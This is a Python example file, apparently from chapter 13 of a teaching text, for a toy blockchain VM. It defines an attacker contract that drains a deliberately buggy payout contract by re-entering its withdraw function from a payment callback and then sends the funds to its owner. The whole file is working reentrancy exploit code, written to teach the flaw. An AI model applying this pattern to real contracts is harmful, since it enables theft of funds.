"""The attacker's contract: drains ``payouts_buggy`` by re-entering it (chapter 13).

Mallory deploys it, has a little money credited to it at the payout contract, and calls
``attack(rounds)``. It asks to be told of its payments (``set_notice``), withdraws once,
and each time the payout contract tells it ``paid``, withdraws again, ``rounds`` more
times, before the first withdrawal has set what it is owed to zero. Every call between
contracts adds a level, so the machine's depth limit (``MAX_CONTRACT_DEPTH``) caps the
rounds of one transaction; it does not stop the attack, a new transaction starts again.
``cash_out`` sends the loot to Mallory.
"""

from minichain.vm.lang import *


class Payouts(Interface):
    def set_notice(self, receiver: address): ...
    def withdraw(self) -> int: ...


class Drainer:
    owner: address
    target: address
    rounds: int                 # re-entries left in the attack that is running

    def __init__(self, target: address):
        self.owner = msg.sender
        self.target = target

    @public
    def attack(self, rounds: int) -> int:
        require(msg.sender == self.owner, "only the owner attacks")
        Payouts(self.target).set_notice(self.address)
        self.rounds = rounds
        Payouts(self.target).withdraw()
        self.rounds = 0
        return self.balance

    @public
    def paid(self, amount: int):
        require(msg.sender == self.target, "only the payout contract pays")
        if self.rounds > 0:
            self.rounds -= 1
            Payouts(self.target).withdraw()

    @public
    def cash_out(self):
        require(msg.sender == self.owner, "only the owner cashes out")
        send(self.owner, self.balance)
